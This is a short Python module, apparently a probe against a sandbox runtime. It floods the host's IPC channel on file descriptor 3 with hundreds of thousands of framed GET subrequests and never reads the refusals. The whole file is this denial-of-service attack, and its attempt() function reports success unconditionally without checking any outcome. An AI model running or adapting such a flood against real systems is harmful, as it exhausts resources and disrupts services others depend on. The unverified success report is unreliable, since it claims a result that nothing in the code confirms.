"""Subrequests without number, whose refusals are never read."""

import os
import struct

from sandbox.runtime.context import current


def frame(kind, stream, payload=b"", flags=0):
    return struct.pack("<IBBHI", len(payload), kind, flags, 0, stream) + payload


def stream():
    return current.get().stream


def send(data):
    os.set_blocking(3, True)
    while data:
        data = data[os.write(3, data) :]


def attempt():
    name = b"x" * 32
    head = b"\x95" + b"\xcd" + stream().to_bytes(2, "big") + b"\xa3GET\xaahttp://a.b\x90\xa6follow"
    flood = b"".join(frame(11, 2 * n + 1, head, 1) for n in range(8192))
    for _ in range(500):
        send(flood)
    return {"success": True, "detail": ""}
